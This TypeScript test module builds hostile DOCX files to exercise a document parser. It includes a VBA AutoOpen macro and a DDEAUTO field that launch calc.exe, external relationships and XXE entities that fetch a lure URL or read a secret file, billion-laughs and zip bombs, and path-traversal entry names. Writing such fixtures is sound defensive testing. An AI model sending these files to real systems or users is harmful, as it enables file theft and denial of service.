/** DOCX files made to break, mislead, swell or stall their readers. */
import { randomBytes } from 'node:crypto';
import { overlapping, type Parts, withLie, zipOf } from './archive.ts';
import { compoundOf } from './compound.ts';
import { GOOD, type HostileFile, type Lures, times } from './file.ts';

const W =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const MACROS = 'application/vnd.ms-word.document.macroEnabled.main+xml';

const types = (main: string): string =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
const relations = (inner: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;
const PACKAGE = relations(`<Relationship Id="rId1" Type="${RELATION}/officeDocument" Target="word/document.xml"/>`);

export const paragraph = (text: string): string => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;
const documentOf = (body: string, before = ''): string =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${before}<w:document ${W}><w:body>${body}</w:body></w:document>`;

export const docxOf = (document: string, more: Parts = {}, main = WORD): Promise<Buffer> =>
  zipOf({ '[Content_Types].xml': types(main), '_rels/.rels': PACKAGE, 'word/document.xml': document, ...more });

const good = (more: Parts = {}, main = WORD): Promise<Buffer> => docxOf(documentOf(paragraph(GOOD)), more, main);

const far = (id: string, type: string, target: string): string =>
  `<Relationship Id="${id}" Type="${type}" Target="${target}" TargetMode="External"/>`;

/** Everything in Word that fetches: a template, pictures linked and embedded, a chunk of HTML, a frame, a sub-document. */
function luring({ url, secret }: Lures): Promise<Buffer> {
  const drawing = (id: string, attribute: string): string =>
    `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:docPr id="1" name="a"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:${attribute}="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
  const field = (code: string): string =>
    `<w:p><w:fldSimple w:instr=" ${code} "><w:r><w:t>field</w:t></w:r></w:fldSimple></w:p>`;
  const body = [
    paragraph(GOOD),
    drawing('rId1', 'link'),
    drawing('rId2', 'embed'),
    '<w:altChunk r:id="rId3"/><w:altChunk r:id="rId4"/><w:subDoc r:id="rId5"/>',
    `<w:p><w:hyperlink r:id="rId6"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>`,
    field(`INCLUDEPICTURE &quot;${url}/field.png&quot; \\d`),
    field(`INCLUDETEXT &quot;${secret}&quot;`),
    field('DDEAUTO cmd.exe &quot;/k calc.exe&quot;'),
  ].join('');
  return docxOf(documentOf(body), {
    'word/_rels/document.xml.rels': relations(
      [
        far('rId1', `${RELATION}/image`, `${url}/linked.png`),
        far('rId2', `${RELATION}/image`, `file://${secret}`),
        far('rId3', `${RELATION}/aFChunk`, `${url}/chunk.html`),
        `<Relationship Id="rId4" Type="${RELATION}/aFChunk" Target="chunk.html"/>`,
        far('rId5', `${RELATION}/subDocument`, `file://${secret}`),
        far('rId6', `${RELATION}/hyperlink`, `${url}/link`),
        far('rId7', `${RELATION}/styles`, `${url}/styles.xml`),
        far('rId8', `${RELATION}/footnotes`, `file://${secret}`),
      ].join(''),
    ),
    'word/chunk.html': `<img src="${url}/chunk.png"><iframe src="file://${secret}"></iframe>`,
    'word/settings.xml': `<w:settings ${W}><w:attachedTemplate r:id="rId1"/></w:settings>`,
    'word/_rels/settings.xml.rels': relations(far('rId1', `${RELATION}/attachedTemplate`, `${url}/template.dotm`)),
  });
}

export const BILLION_LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${times(9, (i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`)}]>`;
export const quadratic = (): string => `<!DOCTYPE x [<!ENTITY a "${'ha'.repeat(50_000)}">]>`;
export const outside = ({ url, secret }: Lures): string =>
  `<!DOCTYPE x SYSTEM "${url}/x.dtd" [<!ENTITY a SYSTEM "file://${secret}"><!ENTITY b SYSTEM "${url}/b"><!ENTITY % c SYSTEM "${url}/c"> %c;]>`;

const NUMBERED = '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>';
const level = (inner: string): string =>
  `<w:numbering ${W}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0">${inner}</w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`;

export const DOCX: HostileFile[] = [
  {
    name: 'password.docx',
    comesTo: ['encrypted'],
    make: () => compoundOf({ EncryptionInfo: randomBytes(4096), EncryptedPackage: randomBytes(20_000) }),
  },
  {
    name: 'ZIP encryption.docx',
    comesTo: ['encrypted'],
    make: async () => {
      const bytes = await good();
      for (let at = bytes.indexOf('PK\x01\x02'); at !== -1; at = bytes.indexOf('PK\x01\x02', at + 4))
        bytes.writeUInt8(1, at + 8);
      return bytes;
    },
  },
  {
    name: 'macros.docm',
    comesTo: ['read'],
    make: () =>
      good(
        {
          'word/vbaProject.bin': compoundOf({ PROJECT: Buffer.from('Sub AutoOpen() Shell "calc.exe" End Sub') }),
          'word/_rels/document.xml.rels': relations(
            '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
          ),
        },
        MACROS,
      ),
    says: GOOD,
  },
  { name: 'far template, pictures and chunks.docx', comesTo: ['read'], make: luring, says: GOOD },
  {
    name: 'billion laughs.docx',
    comesTo: ['read'],
    make: () => docxOf(documentOf(paragraph(`${GOOD} &j;`), BILLION_LAUGHS)),
    says: GOOD,
  },
  {
    name: 'long entity used often.docx',
    comesTo: ['read'],
    make: () => docxOf(documentOf(paragraph(GOOD + '&a;'.repeat(100_000)), quadratic())),
    says: GOOD,
  },
  {
    name: 'outside entities.docx',
    comesTo: ['read'],
    make: (lures) => docxOf(documentOf(paragraph(`${GOOD} &a; &b;`), outside(lures))),
    says: GOOD,
  },
  {
    name: 'outside entities in styles and numbering.docx',
    comesTo: ['read'],
    make: (lures) =>
      good({
        'word/styles.xml': `${outside(lures)}<w:styles ${W}>&a;</w:styles>`,
        'word/numbering.xml': `${BILLION_LAUGHS}<w:numbering ${W}>&j;</w:numbering>`,
        'docProps/core.xml': `${BILLION_LAUGHS}<c><dc:title>&j;</dc:title></c>`,
      }),
    says: GOOD,
  },
  {
    name: 'one part of 300 MB.docx',
    comesTo: ['bomb'],
    make: () => docxOf(documentOf(' '.repeat(300 * 1024 * 1024))),
  },
  {
    name: 'one part of 40 MB that packs badly.docx',
    comesTo: ['bomb', 'too_large', 'out_of_memory', 'read'],
    make: () => docxOf(documentOf(times(450_000, (i) => paragraph(`${(i * 2_654_435_761) % 4_294_967_296} hộ ${i}`)))),
  },
  {
    name: 'a million empty elements.docx',
    comesTo: ['read', 'bomb', 'too_large', 'out_of_memory', 'timed_out'],
    make: () => docxOf(documentOf(paragraph(GOOD) + times(1_000_000, (i) => `<w:p/>${i % 50 ? '' : i}`))),
  },
  {
    name: '100,000 entries.docx',
    comesTo: ['bomb', 'unsupported_type'],
    make: () => overlapping('x', 100_000, (i) => `word/${i}`),
  },
  {
    name: '9,000 notes that are one.docx',
    comesTo: ['bomb', 'damaged', 'unsupported_type'],
    make: () =>
      overlapping(
        `<w:footnotes ${W}>${paragraph('x').repeat(1000)}</w:footnotes>`,
        9000,
        (i) => `word/footnotes${i}.xml`,
      ),
  },
  {
    name: '9,000 notes.docx',
    comesTo: ['read', 'bomb', 'timed_out'],
    make: () =>
      good(
        Object.fromEntries(
          Array.from({ length: 9000 }, (_, i) => [
            `word/footnotes${i}.xml`,
            `<w:footnotes ${W}>${paragraph(`n${i}`)}</w:footnotes>`,
          ]),
        ),
      ),
  },
  {
    name: 'sizes that lie, too small.docx',
    comesTo: ['bomb'],
    make: async () => {
      const content = documentOf('x'.repeat(20_000_000));
      return withLie(await docxOf(content), Buffer.byteLength(content), 1000);
    },
  },
  {
    name: 'sizes that lie, too large.docx',
    comesTo: ['bomb', 'damaged'],
    make: async () => {
      const content = documentOf(paragraph(GOOD));
      return withLie(await docxOf(content), Buffer.byteLength(content), 0xfffffff0);
    },
  },
  {
    name: 'archives in archives.docx',
    comesTo: ['unsupported_type'],
    make: async () => {
      let inner = await zipOf({ 'a.txt': 'x'.repeat(1_000_000) });
      for (let i = 0; i < 30; i++) inner = await zipOf({ 'a.zip': inner, 'b.zip': inner.subarray(0, 1000) });
      return inner;
    },
  },
  {
    name: 'names that climb.docx',
    comesTo: ['read', 'damaged'],
    make: () => good({ '../../../tmp/evil.xml': 'x', '/etc/passwd': 'x', 'word/../../x': 'x' }),
  },
  {
    name: 'parts named like what every object has.docx',
    comesTo: ['read'],
    make: () => good({ __proto__: 'x', constructor: 'x', 'word/toString': 'x' } as Parts),
    says: GOOD,
  },
  {
    name: 'elements 50,000 deep.docx',
    comesTo: ['damaged', 'read', 'bomb'],
    make: () => docxOf(documentOf('<w:p>'.repeat(50_000) + GOOD + '</w:p>'.repeat(50_000))),
  },
  {
    name: 'tables 3,000 deep.docx',
    comesTo: ['damaged', 'read', 'bomb'],
    make: () =>
      docxOf(documentOf('<w:tbl><w:tr><w:tc>'.repeat(3000) + paragraph(GOOD) + '</w:tc></w:tr></w:tbl>'.repeat(3000))),
  },
  {
    name: 'a cell over two milliard columns.docx',
    comesTo: ['read'],
    make: () =>
      docxOf(
        documentOf(
          `<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/><w:vMerge w:val="restart"/></w:tcPr>${paragraph(GOOD)}</w:tc><w:tc>${paragraph('2')}</w:tc></w:tr></w:tbl>`,
        ),
      ),
    says: GOOD,
  },
  {
    name: 'a row of 150,000 cells.docx',
    comesTo: ['read', 'out_of_memory', 'bomb', 'too_large', 'timed_out'],
    make: () =>
      docxOf(
        documentOf(
          `<w:tbl><w:tr>${times(150_000, (i) => `<w:tc>${paragraph(String(i * 7919))}</w:tc>`)}</w:tr><w:tr><w:tc>${paragraph('x')}</w:tc></w:tr></w:tbl>`,
        ),
      ),
  },
  {
    name: 'numbers without end.docx',
    comesTo: ['read'],
    make: () =>
      docxOf(documentOf(times(5000, () => `<w:p>${NUMBERED}<w:r><w:t>${GOOD}</w:t></w:r></w:p>`)), {
        'word/numbering.xml': level(
          `<w:start w:val="999999999"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="${'%1'.repeat(500)}"/>`,
        ),
        'word/_rels/document.xml.rels': relations(
          `<Relationship Id="rId1" Type="${RELATION}/numbering" Target="numbering.xml"/>`,
        ),
      }),
    says: GOOD,
  },
  {
    name: 'styles based on themselves.docx',
    comesTo: ['read', 'damaged'],
    make: () =>
      docxOf(documentOf(`<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>${GOOD}</w:t></w:r></w:p>`), {
        'word/styles.xml': `<w:styles ${W}><w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>`,
        'word/_rels/document.xml.rels': relations(
          `<Relationship Id="rId1" Type="${RELATION}/styles" Target="styles.xml"/>`,
        ),
      }),
  },
  {
    name: 'tags that never end.docx',
    comesTo: ['damaged', 'timed_out'],
    make: () => docxOf(documentOf(times(300_000, (i) => `<w:t ${i}`))),
  },
  {
    name: 'paragraph properties that never end.docx',
    comesTo: ['damaged', 'timed_out'],
    make: () => docxOf(documentOf(times(300_000, (i) => `<w:pPr ${i}`)), { 'word/numbering.xml': level('') }),
  },
  {
    name: 'document types that never end.docx',
    comesTo: ['damaged', 'empty', 'read'],
    make: () => docxOf(times(200_000, (i) => `<!DOCTYPE ${i}[`) + documentOf(paragraph(GOOD))),
  },
  {
    name: 'brackets that never end in a document type.docx',
    comesTo: ['damaged', 'empty', 'read'],
    make: () => docxOf(`<!DOCTYPE a[${times(400_000, (i) => `] ${i % 10}`)}${documentOf(paragraph(GOOD))}`),
  },
  {
    name: 'relations that never end.docx',
    comesTo: ['damaged', 'read', 'timed_out'],
    make: () => good({ '_rels/.rels': times(300_000, (i) => `<${i}officeDocument" `) }),
  },
];
